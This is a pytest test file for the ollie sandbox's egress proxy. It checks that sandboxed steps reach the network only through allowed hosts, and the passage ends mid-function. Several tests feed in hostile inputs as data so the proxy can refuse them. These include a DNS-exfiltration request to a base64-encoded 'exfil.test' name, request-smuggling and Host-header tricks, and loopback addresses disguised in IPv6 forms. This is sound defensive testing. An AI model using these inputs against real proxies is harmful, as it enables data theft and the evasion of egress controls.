"""`network: proxy`: a real step in its own network namespace, out only through ollie's egress proxy.

"Hosts" are names the proxy's resolver maps to 127.0.0.1 (this machine has no internet); the servers are
real ones on the host's loopback, which the step's namespace cannot reach by itself.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import http.server
import io
import json
import os
import socket
import ssl
import sys
import tempfile
import textwrap
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ollie.sandbox import egress, relay
from ollie.sandbox.rules import landlock_abi
from ollie.testing.nethosts import hosts_resolver
from tests.netserver import Listener
from tests.procs import eventually, open_files

pytestmark = pytest.mark.skipif(landlock_abi() < 1, reason="needs Landlock")

FS = ('filesystem: {rox: ["/usr", "/bin", "/lib", "/lib64"], ro: ["/etc", "/proc"], '
      'rw: ["{CWD}", "{TMPDIR}", "/dev/null", "/dev/urandom"]}\n')


Counting = Listener  # the host-side server every network test uses


@pytest.fixture
def counting(listener: Counting) -> Counting:
    return listener  # tests/conftest.py's


def tiny_wheel(directory: Path) -> Path:
    """A real, installable wheel of a one-module package `ollietiny` 1.0."""
    name = "ollietiny-1.0-py3-none-any.whl"
    files = {
        "ollietiny.py": b"VALUE = 42\n",
        "ollietiny-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: ollietiny\nVersion: 1.0\n",
        "ollietiny-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},,\n" for path in files) + "ollietiny-1.0.dist-info/RECORD,,\n"
    files["ollietiny-1.0.dist-info/RECORD"] = record.encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    (directory / name).write_bytes(buffer.getvalue())
    return directory / name


@pytest.fixture
def index(tmp_path: Path) -> Iterator[tuple[int, list[str]]]:
    """A PEP 503 simple index on the host's loopback serving `tiny_wheel`; (port, paths requested)."""
    root = tmp_path / "index"
    (root / "simple" / "ollietiny").mkdir(parents=True)
    wheel = tiny_wheel(root)
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (root / "simple" / "index.html").write_text('<a href="ollietiny/">ollietiny</a>\n')
    (root / "simple" / "ollietiny" / "index.html").write_text(
        f'<a href="../../{wheel.name}#sha256={digest}">{wheel.name}</a>\n')
    seen: list[str] = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args, **kwargs) -> None:
            super().__init__(*args, directory=str(root), **kwargs)

        def do_GET(self) -> None:
            seen.append(self.path)
            super().do_GET()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], seen
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def test_hosts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(egress, "system_resolve", hosts_resolver({"pypi.test": "127.0.0.1", "other.test": "127.0.0.1"}))


def proxy_policy(ws, allow: list[str], extra: str = ""):
    allowed = ", ".join(f'"{a}"' for a in allow)
    return ws.policy(FS + f"network: {{mode: proxy, allow: [{allowed}]{extra}}}\n")


class Asked:
    """A session's answers: records each question and answers `answer`."""

    def __init__(self, answer: str) -> None:
        self.answer = answer
        self.questions: list[tuple[str, int, str, str]] = []

    async def __call__(self, host: str, port: int, step: str, scheme: str) -> str:
        self.questions.append((host, port, step, scheme))
        return self.answer


PROBE = textwrap.dedent("""
    import os, socket, sys
    def raw(request):
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(request)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return data.split(b"\\r\\n", 1)[0].decode()
    what = sys.argv[1]
    try:
        if what == "raw":
            print(raw(sys.argv[2].encode().decode("unicode_escape").encode()))
        elif what == "rawhex":
            print(raw(bytes.fromhex(sys.argv[2])))
        elif what == "direct":
            socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=5)
            print("connected")
        elif what == "udp":
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"x", ("127.0.0.1", int(sys.argv[2])))
            print("sent")
        elif what == "raw-socket":
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            print("made")
        elif what == "dns":
            print(socket.getaddrinfo(sys.argv[2], 80))
        elif what == "v6":
            socket.create_connection(("::1", int(sys.argv[2])), timeout=5)
            print("connected")
        elif what == "abstract":
            u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            u.connect("\\0" + sys.argv[2])
            print("connected")
        elif what == "procnet":
            print(open("/proc/net/tcp").read().count(":%04X " % int(sys.argv[2])), open("/proc/net/tcp6").read())
        elif what == "urllib":
            import urllib.request
            print(urllib.request.urlopen(sys.argv[2], timeout=20).read().decode())
    except Exception as exc:
        print("error", type(exc).__name__, getattr(exc, "errno", None), exc)
""")


async def probe(ws, policy, *args: object) -> str:
    status, out, err = await ws.run(["python3", "-I", "-S", "-c", PROBE, *map(str, args)], policy, timeout=60)
    assert status == 0, err
    return out.strip()


async def run_asked(ws, policy, answer: str, *args: str, script: str = PROBE) -> tuple[str, Asked, list[dict]]:
    """Probe with `answer` as the session's answer; (output, the questions, the step's connections)."""
    asked = Asked(answer)
    token = egress.asking.set(egress.NetAsk(ask=asked))
    try:
        from ollie.sandbox.spawn import spawn_sandboxed

        proc = await spawn_sandboxed(["python3", "-I", "-S", "-c", script, *args], policy=policy, cwd=ws.work,
                                     env=ws.env)
        out, err, _ = await asyncio.wait_for(proc.communicate(limit_bytes=1 << 20), 60)
        assert await proc.wait() == 0, err
    finally:
        egress.asking.reset(token)
    return out.decode().strip(), asked, proc.report["network"]


async def test_pip_download_from_an_allow_listed_index(ws, index) -> None:
    port, seen = index
    policy = proxy_policy(ws, [f"pypi.test:{port}"])
    status, out, err = await ws.run(
        ["python3", "-m", "pip", "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
         "--index-url", f"http://pypi.test:{port}/simple/", "--trusted-host", f"pypi.test:{port}",
         "-d", str(ws.work / "dl"), "ollietiny"],
        policy, timeout=120)
    assert status == 0, out + err
    assert (ws.work / "dl" / "ollietiny-1.0-py3-none-any.whl").exists()
    assert "/simple/ollietiny/" in seen


async def test_unlisted_host_asks_and_deny_sends_nothing(ws, counting) -> None:
    policy = proxy_policy(ws, ["pypi.test"])
    out, asked, connections = await run_asked(ws, policy, "deny", "urllib", f"http://other.test:{counting.port}/x")
    assert "403" in out
    assert asked.questions and asked.questions[0][:2] == ("other.test", counting.port)
    assert "urllib" in asked.questions[0][2] or "python3" in asked.questions[0][2]
    assert asked.questions[0][3] == "http"  # urllib sends a plain HTTP request through the proxy
    assert counting.accepted == 0 and not counting.received
    assert connections[0]["step"].startswith("python3 -I -S -c")
    assert connections[0] | {"sent": 0, "step": ""} == {
        "step": "", "host": "other.test", "port": counting.port, "verdict": "denied", "how": "deny", "asked": True,
        "sent": 0, "received": 0}


async def test_an_allowed_answer_lets_it_through_and_is_recorded(ws, counting) -> None:
    policy = proxy_policy(ws, ["pypi.test"])
    out, asked, connections = await run_asked(ws, policy, "once", "urllib", f"http://other.test:{counting.port}/x")
    assert out == "hello"
    assert counting.received.startswith(b"GET /x HTTP/1.1\r\n")
    assert connections[0]["verdict"] == "allowed" and connections[0]["received"] > 0 and connections[0]["sent"] > 0


TUNNEL = textwrap.dedent("""
    import hashlib, socket, sys
    up = b"SSH-2.0-ollie-test\\r\\n" + bytes(range(256)) * (int(sys.argv[2]) // 256)  # a tunnel opens as TLS or SSH
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    # The first bytes of the tunnel go with the CONNECT head, before the proxy's answer (some clients do).
    s.sendall(b"CONNECT %s HTTP/1.1\\r\\n\\r\\n" % sys.argv[1].encode() + up[:1000])
    s.sendall(up[1000:])
    s.shutdown(socket.SHUT_WR)  # a half-close: the answer still comes
    data = b""
    while chunk := s.recv(1 << 20):
        data += chunk
    head, _, body = data.partition(b"\\r\\n\\r\\n")
    print(head.split(b"\\r\\n")[0].decode(), body[:64].decode(), hashlib.sha256(body[64:]).hexdigest(), len(body))
""")


async def test_a_tunnel_carries_megabytes_both_ways_intact_and_counted(ws) -> None:
    import hashlib
    import socket

    sent, back = 3_000_000 // 256 * 256, bytes(range(255, -1, -1)) * 20_000  # 3 MB up, 5 MB down
    server = socket.create_server(("127.0.0.1", 0))

    def answer() -> None:
        conn, _ = server.accept()
        with conn:
            got = hashlib.sha256()
            while chunk := conn.recv(1 << 20):  # up to the step's half-close
                got.update(chunk)
            conn.sendall(got.hexdigest().encode() + back)

    threading.Thread(target=answer, daemon=True).start()
    port = server.getsockname()[1]
    try:
        out, _, connections = await run_asked(ws, proxy_policy(ws, [f"pypi.test:{port}"]), "deny",
                                              f"pypi.test:{port}", str(sent), script=TUNNEL)
    finally:
        server.close()
    status, digest, body_hash, size = out.rsplit(" ", 3)
    assert status == "HTTP/1.1 200 Connection established"
    up = b"SSH-2.0-ollie-test\r\n" + bytes(range(256)) * (sent // 256)
    assert digest == hashlib.sha256(up).hexdigest()
    assert (body_hash, int(size)) == (hashlib.sha256(back).hexdigest(), 64 + len(back))
    assert (connections[0]["sent"], connections[0]["received"]) == (len(up), 64 + len(back))
    assert relay._growable._value == relay.MAX_GROWN_PIPES  # the pipes grown for megabytes were given back


TAIL = textwrap.dedent("""
    import socket, sys
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT %s HTTP/1.1\\r\\n\\r\\nSSH-2.0-ollie-test\\r\\n" % sys.argv[1].encode())
    data = b""
    while len(data) < int(sys.argv[2]):  # the proxy's answer, then megabytes
        data += s.recv(1 << 20)
    s.sendall(b"more\\n")
    tail = b""
    while len(tail) < 4:
        tail += s.recv(64)
    print(len(data), tail.decode())
""")


async def test_a_few_bytes_after_megabytes_come_through_a_tunnel_held_open(ws) -> None:
    # The reply's megabytes put the relay's pump in bulk (it waits for a pipe's worth before waking); the four
    # bytes after them are all there is while the server holds the tunnel open, and they still come.
    bulk, answer_head = bytes(range(256)) * 16384, b"HTTP/1.1 200 Connection established\r\n\r\n"
    server, release = socket.create_server(("127.0.0.1", 0)), threading.Event()

    def answer() -> None:
        conn, _ = server.accept()
        with conn, contextlib.suppress(OSError):
            data = b""
            while not data.endswith(b"\r\n"):  # the tunnel's opening
                data += conn.recv(64)
            conn.sendall(bulk)
            while not data.endswith(b"more\n"):
                data += conn.recv(64)
            conn.sendall(b"tail")
            release.wait(60)  # no end of the stream to wake the pump

    threading.Thread(target=answer, daemon=True).start()
    port = server.getsockname()[1]
    try:
        out, _, connections = await run_asked(ws, proxy_policy(ws, [f"pypi.test:{port}"]), "deny",
                                              f"pypi.test:{port}", str(len(answer_head) + len(bulk)), script=TAIL)
    finally:
        release.set()
        server.close()
    assert out == f"{len(answer_head) + len(bulk)} tail"
    assert connections[0]["received"] == len(bulk) + 4


LEAVE = textwrap.dedent("""
    import socket, sys
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT %s HTTP/1.1\\r\\n\\r\\nSSH-2.0-ollie-test\\r\\n" % sys.argv[1].encode())
    print(s.recv(4096).split(b"\\r\\n", 1)[0].decode())  # then it exits, the reply never read
""")


class Holding(threading.Thread):
    """A server on the host's loopback taking one connection: it reads until `enough(what came)` or the end, then
    holds the connection (`got` set) until `release` is set, and then sends `reply`."""

    def __init__(self, enough: Callable[[bytes], bool], reply: bytes = b"") -> None:
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.enough, self.reply = enough, reply
        self.got, self.release = threading.Event(), threading.Event()

    def run(self) -> None:
        conn, _ = self.sock.accept()
        with conn, contextlib.suppress(OSError):
            data = b""
            while not self.enough(data) and (chunk := conn.recv(65536)):
                data += chunk
            self.got.set()
            self.release.wait(120)  # past any wait of the test's: only the test ends the hold
            conn.sendall(self.reply)


async def test_a_step_that_ends_while_its_download_waits_ends_the_relay(ws) -> None:
    # The step is gone while its tunnel's reply is still to come (the server holds it): the relay's pump of that
    # reply, a thread blocked in splice on the upstream socket, is woken and ends with the step, and its sockets
    # are closed only after (a descriptor reused while it still spliced would move another connection's bytes).
    server = Holding(lambda _: False)  # the opening, then the proxy's half-close once the step has gone
    server.start()
    try:
        out, _, connections = await run_asked(ws, proxy_policy(ws, [f"pypi.test:{server.port}"]), "deny",
                                              f"pypi.test:{server.port}", script=LEAVE)
        assert out == "HTTP/1.1 200 Connection established" and connections[0]["verdict"] == "allowed"
        assert await asyncio.to_thread(server.got.wait, 30)
        pumps = [t for t in threading.enumerate() if t.name == "ollie-relay"]
        await asyncio.to_thread(lambda: [t.join(20) for t in pumps])
        assert not [t for t in pumps if t.is_alive()]
    finally:
        server.release.set()
        server.sock.close()


def congestion_controls() -> dict[tuple[tuple, tuple], str]:
    """This process's connected TCP sockets: (local address, peer address) -> their congestion control."""
    found = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            with socket.fromfd(int(fd), socket.AF_INET, socket.SOCK_STREAM) as sock:
                name = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_CONGESTION, 16).rstrip(b"\0").decode()
                found[sock.getsockname(), sock.getpeername()] = name
        except OSError:  # no TCP socket, or no connected one
            continue
    return found


async def test_the_steps_side_of_a_download_never_paces_and_the_networks_side_keeps_the_hosts_choice(ws) -> None:
    # The step's hop is a loopback in its own namespace: nothing there to congest. The host's default congestion
    # control may pace each send on a timer (BBR; a 100 MB download cost ~1.4x a direct one, bench_egress), so the
    # proxy's sockets there take reno; the one to the real network keeps what the host chose for it.
    # Both of the proxy's sockets stay open while the server holds the request.
    server = Holding(lambda head: b"\r\n\r\n" in head,
                     b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
    server.start()
    port = server.port
    step = asyncio.ensure_future(run_asked(ws, proxy_policy(ws, [f"pypi.test:{port}"]), "deny", "urllib",
                                           f"http://pypi.test:{port}/"))
    try:
        assert await asyncio.to_thread(server.got.wait, 30)
        sockets = congestion_controls()
    finally:
        server.release.set()
        out, _, _ = await step
        server.sock.close()
    assert out == "hello"
    from ollie.sandbox.netns import PROXY_HOST, PROXY_PORT

    host_default = Path("/proc/sys/net/ipv4/tcp_congestion_control").read_text().strip()
    assert [name for (local, _), name in sockets.items() if local == (PROXY_HOST, PROXY_PORT)] == ["reno"]
    assert [name for (_, peer), name in sockets.items() if peer == ("127.0.0.1", port)] == [host_default]


async def test_without_anyone_to_ask_an_unlisted_host_is_refused(ws, counting) -> None:
    out = await probe(ws, proxy_policy(ws, ["pypi.test"]), "urllib", f"http://other.test:{counting.port}/")
    assert "403" in out and counting.accepted == 0


async def test_no_way_out_but_the_proxy(ws, counting) -> None:
    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
    assert "ConnectionRefusedError" in await probe(ws, policy, "direct", counting.port)
    assert "OSError" in await probe(ws, policy, "v6", counting.port) or "Refused" in await probe(
        ws, policy, "v6", counting.port)
    assert "PermissionError" in await probe(ws, policy, "udp", 53)
    assert "PermissionError" in await probe(ws, policy, "raw-socket")
    assert "gaierror" in await probe(ws, policy, "dns", "pypi.test")
    assert counting.accepted == 0


async def test_the_hosts_abstract_sockets_and_proc_net_are_out_of_sight(ws, counting) -> None:
    import socket

    name = f"ollie-test-{os.getpid()}-{counting.port}"
    host_side = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    host_side.bind("\0" + name)
    host_side.listen(1)
    try:
        # Even with `network.unix` (seccomp lets AF_UNIX through), the abstract namespace is the step's own.
        out = await probe(ws, proxy_policy(ws, [], extra=", unix: true"), "abstract", name)
    finally:
        host_side.close()
    # Refused, not EPERM: the name is not there at all (under `mode: open` Landlock's scope says EPERM, from ABI 6).
    assert "ConnectionRefusedError" in out, out
    # The host's listening port is not in the step's /proc/net; the step's own proxy listener (3128) is.
    assert (await probe(ws, proxy_policy(ws, []), "procnet", counting.port)).startswith("0 ")
    assert (await probe(ws, proxy_policy(ws, []), "procnet", 3128)).startswith("1 ")


async def test_a_denied_name_is_never_resolved(ws, counting, monkeypatch: pytest.MonkeyPatch) -> None:
    # DNS tunnelling through the proxy: data in a name the step asks for would reach the attacker's name
    # server when the proxy resolved it; a name is resolved only once the connection is allowed.
    resolved: list[str] = []
    table = hosts_resolver({"pypi.test": "127.0.0.1"})

    async def recording(host: str, port: int) -> list[str]:
        resolved.append(host)
        return await table(host, port)

    monkeypatch.setattr(egress, "system_resolve", recording)
    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
    for request in ("CONNECT c2VjcmV0LWRhdGE.exfil.test:443 HTTP/1.1\\r\\n\\r\\n",
                    "GET http://c2VjcmV0LWRhdGE.exfil.test/ HTTP/1.1\\r\\n\\r\\n"):
        assert (await probe(ws, policy, "raw", request)).startswith("HTTP/1.1 403")
    assert resolved == []
    assert "hello" in await probe(ws, policy, "urllib", f"http://pypi.test:{counting.port}/")
    assert resolved == ["pypi.test"]


async def test_connect_to_a_listed_hosts_other_port_is_refused(ws, counting) -> None:
    policy = proxy_policy(ws, ["pypi.test"])  # ports 80 and 443 only
    out = await probe(ws, policy, "raw", f"CONNECT pypi.test:{counting.port} HTTP/1.1\\r\\n\\r\\n")
    assert out.startswith("HTTP/1.1 403")
    assert counting.accepted == 0


async def test_a_listed_name_is_no_licence_for_an_ip_literal(ws, counting) -> None:
    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
    for target in (f"127.0.0.1:{counting.port}", f"[::ffff:127.0.0.1]:{counting.port}"):
        out = await probe(ws, policy, "raw", f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n")
        assert out.startswith("HTTP/1.1 403"), target
    assert counting.accepted == 0


async def test_this_machines_address_in_an_ipv6_form_is_refused_unasked(ws, counting) -> None:
    # 127.0.0.1 IPv4-compatible, IPv4-translated, through NAT64 and 6to4, and a local-use NAT64 address: a kernel
    # tunnel or a gateway may take each to an IPv4 address; they were put to the user as public hosts.
    policy = proxy_policy(ws, [])
    for host in ("::127.0.0.1", "::ffff:0:7f00:1", "64:ff9b::7f00:1", "2002:7f00:1::1", "64:ff9b:1::808:808"):
        request = f"CONNECT [{host}]:{counting.port} HTTP/1.1\\r\\n\\r\\n"
        out, asked, connections = await run_asked(ws, policy, "once", "raw", request)
        assert out.startswith("HTTP/1.1 403") and not asked.questions, (host, out)
        assert connections[0]["how"].startswith("non-public address"), connections
    assert counting.accepted == 0
    # A public IPv4 address in those forms is still a host to ask about.
    assert all(egress.is_public(h) for h in ("::ffff:0:808:808", "64:ff9b::808:808", "2002:808:808::1", "2606:4700::1"))


async def test_host_header_and_smuggling_tricks_do_not_bypass(ws, counting) -> None:
    policy = proxy_policy(ws, ["pypi.test:1"])  # the counting server is not listed
    tricks = [
        # The URL names a listed host, the Host header another: refused before anything is sent.
        f"GET http://pypi.test:1/ HTTP/1.1\\r\\nHost: other.test:{counting.port}\\r\\n\\r\\n",
        # A bare LF hiding a second request line in a header.
        f"GET http://other.test:{counting.port}/ HTTP/1.1\\nHost: pypi.test:1\\r\\n\\r\\n",
        # Credentials in the authority: "pypi.test:1@other.test".
        f"GET http://pypi.test:1@other.test:{counting.port}/ HTTP/1.1\\r\\n\\r\\n",
        f"CONNECT other.test:{counting.port}@pypi.test:1 HTTP/1.1\\r\\n\\r\\n",
    ]
    for trick in tricks:
        out = await probe(ws, policy, "raw", trick)
        assert out.startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (trick, out)
    assert counting.accepted == 0


async def test_the_send_cap_cuts_a_step_off(ws, counting) -> None:
    policy = proxy_policy(ws, [f"other.test:{counting.port}"], extra=", max_sent: 1K")
    body = "x" * 4096
    request = (f"POST http://other.test:{counting.port}/ HTTP/1.1\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n"
               + body)
    out, _, connections = await run_asked(ws, policy, "deny", "raw", request)
    assert "limit" in connections[0].get("error", "")
    assert len(counting.received) <= 1024


async def test_without_a_network_namespace_proxy_means_no_network(ws, counting, monkeypatch) -> None:
    monkeypatch.setenv("OLLIE_SANDBOX_NETNS", "0")
    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
    from ollie.sandbox.spawn import spawn_sandboxed

    proc = await spawn_sandboxed(["python3", "-I", "-S", "-c", PROBE, "direct", str(counting.port)], policy=policy,
                                 cwd=ws.work, env=ws.env)
    out, _, _ = await proc.communicate(limit_bytes=1 << 20)
    assert "PermissionError" in out.decode() and counting.accepted == 0
    assert any("no network namespace" in w for w in proc.warnings)


def test_host_patterns() -> None:
    from ollie.sandbox.egress import matches, normal_host

    assert matches("pypi.org", "pypi.org", 443) and matches("pypi.org", "pypi.org", 80)
    assert not matches("pypi.org", "pypi.org", 8443) and matches("pypi.org:8443", "pypi.org", 8443)
    assert not matches("pypi.org", "evil-pypi.org", 443) and not matches("pypi.org", "pypi.org.evil.com", 443)
    assert matches("*.githubusercontent.com", "raw.githubusercontent.com", 443)
    assert not matches("*.githubusercontent.com", "githubusercontent.com", 443)
    assert not matches("*.githubusercontent.com", "evilgithubusercontent.com", 443)
    assert normal_host("PyPI.org.") == "pypi.org" and normal_host("[::FFFF:7f00:1]") == "::ffff:7f00:1"
    assert not matches("*.0.0.1", "127.0.0.1", 443)  # a wildcard never matches an IP literal


async def test_a_deny_pattern_wins_over_allow_and_is_never_asked(ws, counting) -> None:
    policy = proxy_policy(ws, [f"other.test:{counting.port}"], extra=f', deny: ["other.test:{counting.port}"]')
    out, asked, connections = await run_asked(ws, policy, "once", "urllib", f"http://other.test:{counting.port}/")
    assert "403" in out and not asked.questions and counting.accepted == 0
    assert (connections[0]["verdict"], connections[0]["how"]) == ("denied", "policy")


@pytest.mark.parametrize("fails", ["unanswered", "the question fails"])
async def test_an_unanswered_or_failed_question_denies(ws, counting, fails) -> None:
    # A question that failed (the editor's request raised) denies: that it allowed went unseen by every test.
    never = asyncio.Event()

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        if fails != "unanswered":
            raise ConnectionResetError("the editor went away")
        await never.wait()  # the user never answers
        return "once"

    token = egress.asking.set(egress.NetAsk(ask=ask, timeout=0.2))
    try:
        status, out, _ = await ws.run(["python3", "-I", "-S", "-c", PROBE, "urllib",
                                       f"http://other.test:{counting.port}/"], proxy_policy(ws, ["pypi.test"]))
    finally:
        egress.asking.reset(token)
    assert status == 0 and "403" in out and counting.accepted == 0


async def test_a_step_that_ends_while_its_question_waits_withdraws_it_and_says_why(ws, counting) -> None:
    """The step's program gives up on a connection (or exits) before the user answers: the question is withdrawn
    (the editors and the terminal take it away) and the record says why it was denied."""
    withdrawn = asyncio.Event()

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        (ws.work / "asked").write_text("")  # the step sees that its question is up, and ends
        try:
            await asyncio.Event().wait()  # the user has not answered yet
        except asyncio.CancelledError:
            withdrawn.set()
            raise
        return "once"

    script = textwrap.dedent("""
        import os, sys, threading, time, urllib.request
        def fetch():
            try:
                urllib.request.urlopen(sys.argv[1], timeout=60)
            except Exception:
                pass
        threading.Thread(target=fetch, daemon=True).start()
        while not os.path.exists("asked"):
            time.sleep(0.01)
        os._exit(0)
    """)
    token = egress.asking.set(egress.NetAsk(ask=ask))
    try:
        from ollie.sandbox.spawn import spawn_sandboxed

        proc = await spawn_sandboxed(["python3", "-I", "-S", "-c", script, f"http://other.test:{counting.port}/"],
                                     policy=proxy_policy(ws, ["pypi.test"]), cwd=ws.work, env=ws.env)
        await asyncio.wait_for(proc.communicate(limit_bytes=1 << 20), 60)
        assert await proc.wait() == 0
        await asyncio.wait_for(withdrawn.wait(), 30)
    finally:
        egress.asking.reset(token)
    [record] = proc.report["network"]
    assert record["verdict"] == "denied" and record["how"] == "no answer: the step ended first", record
    assert counting.accepted == 0


async def test_a_non_public_ip_literal_is_never_asked_about() -> None:
    # 0.0.0.0 and ::ffff:7f00:1 are this machine, in forms a question would not make plain: denied unasked,
    # unless the user's own allow-list names them.
    asked: list[str] = []

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        asked.append(host)
        return "once"

    for host in ("0.0.0.0", "::ffff:7f00:1", "127.0.0.1", "169.254.169.254", "10.1.2.3", "::1"):
        step = egress.StepNet(label="s", allow=(), deny=(), max_sent=0, ask=egress.NetAsk(ask=ask))
        record = await step.decide(egress.normal_host(host), 443)
        assert record["verdict"] == "denied" and not asked, host
        listed = egress.StepNet(label="s", allow=(host if ":" not in host else f"[{host}]:443",), deny=(),
                                max_sent=0, ask=None)
        assert (await listed.decide(egress.normal_host(host), 443))["verdict"] == "allowed", host
    step = egress.StepNet(label="s", allow=(), deny=(), max_sent=0, ask=egress.NetAsk(ask=ask))
    assert (await step.decide("93.184.215.14", 443))["verdict"] == "allowed" and asked == ["93.184.215.14"]


OWN_ADDRESS = """
import asyncio, json, subprocess, sys
for address in ("9.9.9.9/32", "2620:fe::9/128"):  # global addresses this (private) network namespace holds
    subprocess.run(["ip", "addr", "add", address, "dev", "lo"], check=True)
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["mount", "--bind", sys.argv[1], "/etc/hosts"], check=True)  # in its own mount namespace
from ollie.sandbox import egress

async def ask(host, port, step, scheme):
    return "once"

async def main():
    out = {}
    for name in ("own.test", "own6.test"):
        try:
            out[name] = await egress.system_resolve(name, 443)
        except OSError as exc:
            out[name] = str(exc)
    for host in ("9.9.9.9", "2620:fe::9", "::ffff:9.9.9.9", "8.8.8.8"):
        step = egress.StepNet(label="s", allow=(), deny=(), max_sent=0, ask=egress.NetAsk(ask=ask))
        out[host] = (await step.decide(egress.normal_host(host), 443))["how"]
    print(json.dumps(out))

asyncio.run(main())
"""


async def test_a_name_or_literal_naming_this_machines_own_public_address_is_refused(tmp_path) -> None:
    """A server's public IPv4, a laptop's global IPv6: held by the machine, so a name resolving to one (or the
    literal, answered "once" by a user who does not know it as theirs) reached what listens on all its
    interfaces (a dev server, a database in docker) as loopback would. A namespace of its own holds them here."""
    hosts = tmp_path / "hosts"
    hosts.write_text("9.9.9.9 own.test\n2620:fe::9 own6.test\n")
    script = tmp_path / "own.py"
    script.write_text(OWN_ADDRESS)
    # A user namespace of its own too: a normal user may make the others only in one (root needs none).
    run = await asyncio.create_subprocess_exec("unshare", "--user", "--map-root-user", "--net", "--mount",
                                               sys.executable, str(script), str(hosts), stdout=asyncio.subprocess.PIPE)
    out = json.loads((await run.communicate())[0])
    assert out["own.test"] == "own.test resolves only to non-public addresses (9.9.9.9)", out
    assert out["own6.test"] == "own6.test resolves only to non-public addresses (2620:fe::9)", out
    for host in ("9.9.9.9", "2620:fe::9", "::ffff:9.9.9.9"):
        assert out[host].startswith("non-public address"), out
    assert out["8.8.8.8"] == "once", out  # a public address the machine does not hold is still asked about


async def test_a_long_tmpdir_still_gets_a_socket_steps_can_reach(tmp_path, monkeypatch) -> None:
    # sun_path holds 108 bytes: under a deep TMPDIR (and no XDG_RUNTIME_DIR) the proxy's socket must still bind,
    # or every proxied step fails to start ("AF_UNIX path too long", seen under pytest-xdist's deeper tmp dirs).
    deep = tmp_path / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    monkeypatch.setenv("TMPDIR", str(deep))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setattr(tempfile, "tempdir", None)  # tempfile reads TMPDIR again
    proxy = egress.EgressProxy()
    proxy.start()
    try:
        assert len(os.fsencode(proxy.path)) < 108, proxy.path
        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as client:
            client.connect(proxy.path)
    finally:
        proxy.close()


def test_a_proxy_goes_with_its_event_loop(tmp_path, monkeypatch) -> None:
    # Each event loop has its proxy (`egress.proxy()`), which nothing closed: one whose loop had ended kept its socket,
    # socket dir and owner lock till the process exited (a test worker held hundreds; killed, it left them all).
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))

    async def started() -> str:
        proxy = egress.proxy()
        proxy.start()
        return proxy.path

    socket_dir = os.path.dirname(asyncio.run(started()))
    assert not os.path.exists(socket_dir)
    assert not [link for link in open_files() if link.startswith(socket_dir)], "its owner lock is let go"


def test_a_sweep_between_the_proxys_lock_file_and_its_lock_leaves_it_a_socket_dir(tmp_path, monkeypatch) -> None:
    # Another process's sweep that came after the proxy made its `owner.lock`, before it locked it, took the dir for a
    # dead daemon's and removed it: the proxy's socket then had nowhere to be (its start failed, or its steps').
    import fcntl

    from ollie.tools.execute.sessiondirs import sweep_stale

    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    flock, swept = fcntl.flock, []

    def swept_first(fd: int, operation: int) -> None:
        if operation == fcntl.LOCK_SH and not swept:  # the proxy's lock, taken once: the sweep comes first
            swept.extend(sweep_stale())
        flock(fd, operation)

    monkeypatch.setattr(fcntl, "flock", swept_first)

    async def started() -> str:
        proxy = egress.proxy()
        proxy.start()
        assert os.path.exists(proxy.path)
        return proxy.path

    own = Path(asyncio.run(started())).parent
    # The proxy's dir was swept and made again (the shared socket root may hold other dead daemons' dirs too: a run's
    # killed ones, swept with it).
    assert own.name.startswith("egress-") and own in swept, (own, swept)


def client_hello(server_name: str) -> bytes:
    """The TLS ClientHello Python's ssl sends to `server_name` (its SNI)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def test_the_server_name_of_a_client_hello() -> None:
    from ollie.sandbox.proxyrequest import RequestError, tls_server_name

